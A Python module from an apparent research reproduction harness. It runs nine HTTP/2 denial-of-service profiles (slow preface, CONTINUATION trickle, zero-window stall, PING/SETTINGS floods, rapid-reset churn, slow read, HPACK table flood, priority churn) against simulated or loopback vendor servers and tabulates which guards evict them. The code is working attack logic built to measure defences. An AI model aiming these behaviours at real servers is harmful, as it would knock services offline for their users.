"""The attack battery: one registry, one runner.

Nine client-side behaviour profiles.  Six model the slow-rate family
(after Tripathi's *Delays have Dangerous Ends*):

* ``slow_preface`` — complete the TLS hello, then drip the 24-byte h2
  connection preface one byte at a time, never finishing it;
* ``slow_headers`` — open a request HEADERS frame without END_HEADERS
  and trickle its block through 1-byte CONTINUATION frames;
* ``zero_window_stall`` — announce SETTINGS_INITIAL_WINDOW_SIZE 0,
  request large objects on many streams, never grant window;
* ``ping_flood`` — sustained non-ack PING volleys;
* ``settings_flood`` — sustained empty (non-ack) SETTINGS frames, each
  of which the server must ack;
* ``rst_churn`` — open-and-immediately-reset request streams
  (rapid-reset), forcing allocation and teardown work per stream.

Three are the surfaces the paper's Discussion names:

* ``slow_read`` — "an adversary could launch DoS attacks like
  malicious TCP receiver by setting SETTINGS_INITIAL_WINDOW_SIZE to a
  small value so that the server cannot quickly send out the response
  frames and release the corresponding memory" (§V-D1, §VI point 2):
  the zero-window stall with a window of one octet.  The paper's
  defence is a lower bound on the window a server accepts
  (``ServerProfile.min_accepted_initial_window``);
* ``table_flood`` — "setting SETTINGS_HEADER_TABLE_SIZE ... to a large
  value, and then using randomly-generated headers to fill up the
  table" (§VI point 5).  The server's *decoder* table is bounded by
  its own setting whatever arrives; its *encoder* table's limit is the
  attacker's announcement unless
  ``ServerProfile.max_peer_header_table_size`` caps it;
* ``priority_churn`` — "force the server to frequently reconstruct the
  dependency tree" (§VI point 3): PRIORITY frames for streams that
  never open build a deep chain, then exclusive moves relocate its
  tail.  The defence bounds tracked priority state
  (``ServerProfile.max_tracked_priority_streams``).

Each profile runs against any vendor engine — or a prepared
:class:`~repro.servers.site.Site` — over the simulated backend or the
loopback bridge, with abuse guards off (reproducing the 2016 exposure)
or with per-vendor hardened defaults
(:data:`repro.servers.vendors.DEFAULT_GUARDS`).  :func:`run_battery`
sweeps the profile × vendor grid into a :class:`SurvivalMatrix`; on
the simulated backend the matrix is deterministic in the seed.
"""

from __future__ import annotations

import random
from contextlib import contextmanager
from dataclasses import dataclass, field

from repro.h2 import events as ev
from repro.h2.constants import CONNECTION_PREFACE
from repro.h2.frames import (
    ContinuationFrame,
    GoAwayFrame,
    HeadersFrame,
    parse_frames,
)
from repro.net.transport import LinkProfile
from repro.scope.client import H2, ScopeClient
from repro.servers.profiles import AbuseGuards
from repro.servers.site import Site, serve_site
from repro.servers.vendors import (
    POPULATION_FACTORIES,
    VENDOR_FACTORIES,
    vendor_guards,
)
from repro.servers.website import Resource, Website

from repro.attacks.base import AttackProfile, AttackResult

#: Default attack window, seconds.  Long enough that every per-vendor
#: guard deadline (max 12 s) falls inside it with room to observe the
#: eviction, and that a guards-off run demonstrably *holds*.
DEFAULT_DURATION = 16.0
#: Seconds between two samples of the victim's engine metrics.
SAMPLE_STEP = 0.25


def attack_website(objects: int = 32, object_size: int = 120_000) -> Website:
    """``objects`` large downloads at ``/victim/{i}.bin`` and a front page."""
    site = Website()
    for i in range(objects):
        site.add(
            Resource(f"/victim/{i}.bin", object_size, "application/octet-stream")
        )
    site.add(Resource("/", 1_000, "text/html"))
    return site


# ----------------------------------------------------------------------
# The per-run driver handed to behaviours
# ----------------------------------------------------------------------


class AttackRun:
    """Clock, eviction watching and metric sampling for one attack."""

    def __init__(
        self,
        client: ScopeClient,
        result: AttackResult,
        duration: float,
        sampler,
        seed: int = 0,
        knobs: dict | None = None,
    ):
        self.client = client
        self.result = result
        self.duration = duration
        self.sampler = sampler
        self.seed = seed
        self.knobs = dict(knobs or {})
        self.started_at: float | None = None
        self.eviction_noticed_at: float | None = None
        self.bytes_sent = 0

    def knob(self, name: str, default):
        return self.knobs.get(name, default)

    def begin(self) -> None:
        """Mark the connection established; the attack clock starts."""
        self.started_at = self.client.now
        self.result.connected = True
        self.sample()

    @property
    def elapsed(self) -> float:
        if self.started_at is None:
            return 0.0
        return self.client.now - self.started_at

    @property
    def over(self) -> bool:
        return self.elapsed >= self.duration - 1e-9

    @property
    def evicted(self) -> bool:
        """Has the server terminated us (GOAWAY seen or socket closed)?"""
        client = self.client
        if client.peer_closed:
            return True
        if any(isinstance(te.event, ev.GoAwayReceived) for te in client.events):
            return True
        if client.conn is None and self._limbo_goaway() is not None:
            return True
        return False

    def _limbo_goaway(self) -> GoAwayFrame | None:
        """GOAWAY parsed out of pre-engine bytes (slow-preface has no
        protocol engine attached, but the server's frames still arrive)."""
        data = bytes(getattr(self.client, "_limbo_buffer", b""))
        if not data:
            return None
        try:
            frames, _remainder = parse_frames(data)
        except Exception:
            return None
        for frame in frames:
            if isinstance(frame, GoAwayFrame):
                return frame
        return None

    def tick(self, dt: float) -> None:
        """Let ``dt`` seconds pass (early-exits once evicted), then
        sample the server's resource state."""
        self.client.wait_for(lambda: self.evicted, timeout=dt)
        if self.evicted and self.eviction_noticed_at is None:
            self.eviction_noticed_at = self.client.now
        self.sample()

    def hold(self) -> None:
        """Keep the connection open until the window ends or we are
        evicted."""
        while not self.over and not self.evicted:
            self.tick(SAMPLE_STEP)

    def sample(self) -> None:
        try:
            metrics = self.sampler()
        except RuntimeError:
            # Loopback sampling races the engine thread; skip the beat.
            return
        self.result.samples.append((round(self.elapsed, 4), metrics))

    def finish(self) -> None:
        """Fold the run's observations into the result."""
        result = self.result
        client = self.client
        for _at, metrics in result.samples:
            for key, value in metrics.items():
                name = f"peak_{key}"
                setattr(result, name, max(getattr(result, name), value))
        if client.conn is not None:
            result.frames_sent = client.conn.frames_sent
        else:
            result.frames_sent = self.bytes_sent
        if self.started_at is None:
            return

        goaway_at: float | None = None
        goaway: GoAwayFrame | ev.GoAwayReceived | None = None
        for te in client.events:
            if isinstance(te.event, ev.GoAwayReceived):
                goaway, goaway_at = te.event, te.at
                break
        if goaway is None:
            goaway = self._limbo_goaway()
        if goaway is not None:
            result.goaway_observed = True
            result.goaway_error = goaway.error_code
            result.goaway_debug = goaway.debug_data
        if goaway is not None or client.peer_closed:
            result.evicted = True
            noticed = self.eviction_noticed_at
            at = goaway_at if goaway_at is not None else noticed
            if at is None:
                at = client.now
            result.eviction_at = max(0.0, at - self.started_at)
            result.held_seconds = result.eviction_at
        else:
            # Clamp: the post-run drain advances the clock a little.
            result.held_seconds = min(self.elapsed, self.duration)
        result.survived = not result.evicted


# ----------------------------------------------------------------------
# Behaviours
# ----------------------------------------------------------------------


def _behave_slow_preface(run: AttackRun) -> None:
    client = run.client
    client.connect()
    client.tls_handshake()
    if client.tls.chosen != H2:
        return
    run.begin()
    preface = CONNECTION_PREFACE
    # One byte at a time, paced so the preface can never complete
    # inside the attack window (and the final byte is never sent).
    interval = run.knob("interval", run.duration / (2 * len(preface)) * 4)
    sent = 0
    while not run.over and not run.evicted:
        if sent < len(preface) - 1:
            client.endpoint.send(preface[sent : sent + 1])
            run.bytes_sent += 1
            sent += 1
        run.tick(interval)


def _behave_slow_headers(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    conn = client.conn
    assert conn is not None
    stream_id = conn.next_stream_id()
    headers = [
        (":method", "GET"),
        (":scheme", "https"),
        (":path", "/"),
        (":authority", client.domain),
    ]
    headers += [(f"x-drip-{i:02d}", "d" * 48) for i in range(24)]
    block = conn.encoder.encode(headers)
    # HEADERS without END_HEADERS opens the assembly; the block then
    # trickles through 1-byte CONTINUATIONs and never terminates.
    conn.send_raw_frame(HeadersFrame(stream_id=stream_id, header_block=block[:1]))
    client.flush()
    position = 1
    interval = run.knob("interval", 0.25)
    while not run.over and not run.evicted:
        if position < len(block) - 1:
            conn.send_raw_frame(
                ContinuationFrame(
                    stream_id=stream_id,
                    header_block=block[position : position + 1],
                )
            )
            client.flush()
            position += 1
        run.tick(interval)


def _behave_zero_window_stall(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    for i in range(int(run.knob("streams", 16))):
        client.request(f"/victim/{i}.bin")
    run.hold()


def _behave_ping_flood(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rate = float(run.knob("rate", 400.0))
    burst = int(run.knob("burst", 20))
    sequence = 0
    while not run.over and not run.evicted:
        assert client.conn is not None
        for _ in range(burst):
            client.conn.send_ping(sequence.to_bytes(8, "big"))
            sequence += 1
        client.flush()
        run.tick(burst / rate)


def _behave_settings_flood(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rate = float(run.knob("rate", 100.0))
    burst = int(run.knob("burst", 5))
    while not run.over and not run.evicted:
        assert client.conn is not None
        for _ in range(burst):
            client.conn.send_settings({})
        client.flush()
        run.tick(burst / rate)


def _behave_rst_churn(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rate = float(run.knob("rate", 300.0))
    burst = int(run.knob("burst", 15))
    while not run.over and not run.evicted:
        conn = client.conn
        assert conn is not None
        for _ in range(burst):
            stream_id = conn.next_stream_id()
            conn.send_headers(
                stream_id,
                [
                    (":method", "GET"),
                    (":scheme", "https"),
                    (":path", "/victim/0.bin"),
                    (":authority", client.domain),
                ],
                end_stream=True,
            )
            conn.send_rst_stream(stream_id, 8)  # CANCEL
        client.flush()
        run.tick(burst / rate)


def _behave_table_flood(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rng = random.Random(run.seed)
    for _ in range(int(run.knob("requests", 60))):
        if run.over or run.evicted:
            break
        junk = [
            (f"x-flood-{rng.getrandbits(48):012x}", f"{rng.getrandbits(256):064x}")
            for _ in range(4)
        ]
        stream_id = client.request("/", extra_headers=junk)
        client.wait_for(
            lambda: any(
                te.event.stream_id == stream_id
                for te in client.events_of(ev.StreamEnded)
            ),
            timeout=5,
        )
        run.sample()
    run.hold()


def _behave_priority_churn(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    frames = int(run.knob("frames", 800))
    # A maximally deep chain of idle streams: PRIORITY may name streams
    # that never open, so the state is free to the attacker.
    chain = [2 * i + 1 for i in range(frames // 2)]
    for depends_on, stream_id in zip([0] + chain, chain):
        client.send_priority(stream_id, depends_on=depends_on, weight=256)
    # Then move the chain's tail to the root and back with exclusive
    # flags, a restructure each, until the frame budget is spent.
    tail = min(len(chain), frames // 4 or 1)
    for index in range(frames - len(chain)):
        client.send_priority(
            chain[-(1 + index % tail)],
            depends_on=0,
            weight=1,
            exclusive=index % 2 == 0,
        )
    run.hold()


#: Every attack, in matrix row order.
BATTERY_PROFILES: dict[str, AttackProfile] = {
    "slow_preface": AttackProfile(
        name="slow_preface",
        summary="drip the 24-byte connection preface, never completing it",
        kind="slow-rate",
        behaviour=_behave_slow_preface,
        guard_knob="preface",
    ),
    "slow_headers": AttackProfile(
        name="slow_headers",
        summary="HEADERS without END_HEADERS + 1-byte CONTINUATION trickle",
        kind="slow-rate",
        behaviour=_behave_slow_headers,
        guard_knob="header",
    ),
    "zero_window_stall": AttackProfile(
        name="zero_window_stall",
        summary="announce a zero initial window, request big objects, go mute",
        kind="slow-rate",
        behaviour=_behave_zero_window_stall,
        client_settings={4: 0},  # SETTINGS_INITIAL_WINDOW_SIZE
        guard_knob="stall",
    ),
    "ping_flood": AttackProfile(
        name="ping_flood",
        summary="sustained non-ack PING volleys",
        kind="flood",
        behaviour=_behave_ping_flood,
        guard_knob="ping",
    ),
    "settings_flood": AttackProfile(
        name="settings_flood",
        summary="sustained empty SETTINGS frames, each forcing an ack",
        kind="flood",
        behaviour=_behave_settings_flood,
        guard_knob="settings",
    ),
    "rst_churn": AttackProfile(
        name="rst_churn",
        summary="open-and-reset request streams (rapid reset)",
        kind="flood",
        behaviour=_behave_rst_churn,
        guard_knob="rst",
    ),
    "slow_read": AttackProfile(
        name="slow_read",
        summary="one-octet windows pinning response buffers (§V-D1, §VI.2)",
        kind="resource",
        behaviour=_behave_zero_window_stall,
        client_settings={4: 1},  # SETTINGS_INITIAL_WINDOW_SIZE
        guard_knob="stall",
    ),
    "table_flood": AttackProfile(
        name="table_flood",
        summary="HPACK dynamic-table flood via huge announced size (§VI.5)",
        kind="resource",
        behaviour=_behave_table_flood,
        client_settings={1: 2**24},  # SETTINGS_HEADER_TABLE_SIZE
        auto_window_update=True,
    ),
    "priority_churn": AttackProfile(
        name="priority_churn",
        summary="dependency-tree churn via PRIORITY spam (§VI.3)",
        kind="resource",
        behaviour=_behave_priority_churn,
    ),
}


def _expected_deadline(
    profile: AttackProfile, guards: AbuseGuards
) -> float | None:
    """The guard deadline this attack should be evicted within."""
    knob = profile.guard_knob
    if knob is None or not guards.any_enabled:
        return None
    if knob in ("ping", "settings", "rst"):
        # Rate breaches trip within one window of sustained flooding.
        return guards.rate_window
    return getattr(guards, f"{knob}_timeout")


def _sample_engine(server) -> dict[str, int]:
    """One beat of server-side resource state; the keys are the
    ``AttackResult.peak_*`` fields' names without the prefix."""
    encoder, decoder = server.hpack_encoder_bytes, server.hpack_decoder_bytes
    return {
        "pinned_bytes": server.pending_response_bytes,
        "stream_states": server.tracked_stream_states,
        "hpack_bytes": encoder + decoder,
        "hpack_encoder_bytes": encoder,
        "hpack_decoder_bytes": decoder,
        "assembly_bytes": server.header_assembly_bytes,
        "priority_nodes": server.priority_tree_nodes,
        "priority_depth": server.priority_tree_depth,
        "priority_operations": server.priority_tree_operations,
    }


def _resolve_guards(guards, vendor: str) -> AbuseGuards:
    if guards is None or guards == "off":
        return AbuseGuards()
    if guards == "vendor":
        return vendor_guards(vendor)
    return guards


@contextmanager
def _serve_loopback(site: Site, seed: int, record_frames: bool):
    # Imported lazily: the loopback bridge pulls in asyncio/threading
    # machinery the simulated path never needs.
    from repro.net.socket_backend import SocketBackend
    from repro.servers.loopback import LoopbackBridge

    with LoopbackBridge(seed=seed) as bridge:
        bridge.serve(site, record_frames=record_frames)
        with SocketBackend(resolver=bridge.resolver()) as backend:
            yield backend, bridge.engine(site.domain)


#: How each backend serves the victim: a context manager yielding the
#: transport backend a :class:`ScopeClient` dials and the engine to
#: sample; the victim's universe ends with the ``with`` block.
_SERVE = {"sim": serve_site, "loopback": _serve_loopback}


def run_attack(
    profile: AttackProfile | str,
    vendor: str | Site = "nginx",
    *,
    backend: str = "sim",
    guards: AbuseGuards | str | None = None,
    seed: int = 0,
    duration: float = DEFAULT_DURATION,
    record_frames: bool = False,
    knobs: dict | None = None,
) -> AttackResult:
    """Run one battery profile against one victim.

    ``vendor`` names a vendor engine, deployed with the battery's
    website and ``guards`` — an :class:`AbuseGuards`, ``"vendor"`` (that
    vendor's hardened defaults) or ``None``/``"off"`` — or is a
    :class:`Site`, attacked as it is: its own profile's guards and §VI
    bounds, its own website and link (``guards`` is not consulted).
    ``backend`` is ``"sim"`` (discrete-event, deterministic in the
    seed) or ``"loopback"`` (real TCP via the PR 6 bridge, wall-clock).
    """
    if isinstance(profile, str):
        profile = BATTERY_PROFILES[profile]
    if backend not in _SERVE:
        raise ValueError(f"unknown backend {backend!r}")
    if isinstance(vendor, Site):
        site, vendor = vendor, vendor.profile.name
    else:
        factory = VENDOR_FACTORIES.get(vendor) or POPULATION_FACTORIES[vendor]
        site = Site(
            domain=f"{vendor}.victim.test",
            profile=factory().clone(guards=_resolve_guards(guards, vendor)),
            website=attack_website(),
            link=LinkProfile(rtt=0.02, bandwidth=50e6),
        )
    result = AttackResult(
        profile=profile.name,
        vendor=vendor,
        backend=backend,
        guards_enabled=site.profile.guards.any_enabled,
        duration=duration,
        eviction_deadline=_expected_deadline(profile, site.profile.guards),
    )
    with _SERVE[backend](site, seed, record_frames) as (transport, server):
        client = ScopeClient(
            transport,
            site.domain,
            settings=dict(profile.client_settings),
            auto_window_update=profile.auto_window_update,
        )
        run = AttackRun(
            client,
            result,
            duration=duration,
            sampler=lambda: _sample_engine(server),
            seed=seed,
            knobs=knobs,
        )
        profile.behaviour(run)
        # Drain in-flight bytes (a terminal GOAWAY trails the eviction by
        # the guard linger + link delay) before folding the result.
        client.wait_for(lambda: False, timeout=0.3)
        run.finish()
        client.close()
        # The server stamps a timeline's end when it sees the close.
        client.sleep(0.5)
        result.guard_reasons = [event.reason for event in server.guard_log]
        for timeline in server.timelines:
            timeline.label = profile.name
        result.timelines = list(server.timelines)
    return result


# ----------------------------------------------------------------------
# The survival matrix
# ----------------------------------------------------------------------


@dataclass
class SurvivalMatrix:
    """Battery results over the profile × vendor grid."""

    backend: str
    guards: str
    seed: int
    duration: float
    results: list[AttackResult] = field(default_factory=list)

    def cell(self, profile: str, vendor: str) -> AttackResult | None:
        for result in self.results:
            if result.profile == profile and result.vendor == vendor:
                return result
        return None

    def to_json(self) -> dict:
        return {
            "backend": self.backend,
            "guards": self.guards,
            "seed": self.seed,
            "duration": self.duration,
            "results": [result.row() for result in self.results],
        }

    def render(self) -> str:
        vendors = sorted({r.vendor for r in self.results})
        profiles = [
            name
            for name in BATTERY_PROFILES
            if any(r.profile == name for r in self.results)
        ]

        def text(result: AttackResult | None) -> str:
            if result is None or not result.connected:
                return "-"
            if result.evicted:
                reason = result.guard_reasons[0] if result.guard_reasons else "_"
                return f"evict@{result.eviction_at:.2f}s {reason}"
            return f"held {result.held_seconds:.1f}s"

        grid = {
            (name, vendor): text(self.cell(name, vendor))
            for name in profiles
            for vendor in vendors
        }
        widths = {
            vendor: max(
                [len(vendor)] + [len(grid[(name, vendor)]) for name in profiles]
            )
            + 2
            for vendor in vendors
        }
        lines = [
            f"Survival matrix — backend={self.backend} guards={self.guards} "
            f"duration={self.duration:g}s seed={self.seed}",
            "  (held Ns = connection survived; evict@T = terminated T seconds in)",
            "",
            "  "
            + "attack".ljust(20)
            + "".join(v.ljust(widths[v]) for v in vendors),
        ]
        for name in profiles:
            lines.append(
                "  "
                + name.ljust(20)
                + "".join(grid[(name, v)].ljust(widths[v]) for v in vendors)
            )
        pinned = max((r.peak_pinned_bytes for r in self.results), default=0)
        lines.append("")
        lines.append(f"  peak pinned response bytes across cells: {pinned:,}")
        return "\n".join(lines) + "\n"


def run_battery(
    vendors: list[str] | None = None,
    profiles: list[str] | None = None,
    *,
    backend: str = "sim",
    guards: str = "off",
    seed: int = 0,
    duration: float = DEFAULT_DURATION,
    guard_scale: float = 1.0,
    record_frames: bool = False,
) -> SurvivalMatrix:
    """Sweep the battery over ``profiles`` × ``vendors``.

    ``guards`` is ``"off"`` or ``"vendor"``; ``guard_scale`` shrinks
    the vendor deadlines (loopback tests pay wall seconds per cell).
    """
    vendor_names = list(VENDOR_FACTORIES) if vendors is None else list(vendors)
    profile_names = (
        list(BATTERY_PROFILES) if profiles is None else list(profiles)
    )
    matrix = SurvivalMatrix(
        backend=backend, guards=guards, seed=seed, duration=duration
    )
    for name in profile_names:
        for vendor in vendor_names:
            guard_config = vendor_guards(vendor) if guards == "vendor" else None
            if guard_config is not None and guard_scale != 1.0:
                guard_config = guard_config.scaled(guard_scale)
            matrix.results.append(
                run_attack(
                    BATTERY_PROFILES[name],
                    vendor,
                    backend=backend,
                    guards=guard_config,
                    seed=seed,
                    duration=duration,
                    record_frames=record_frames,
                )
            )
    return matrix
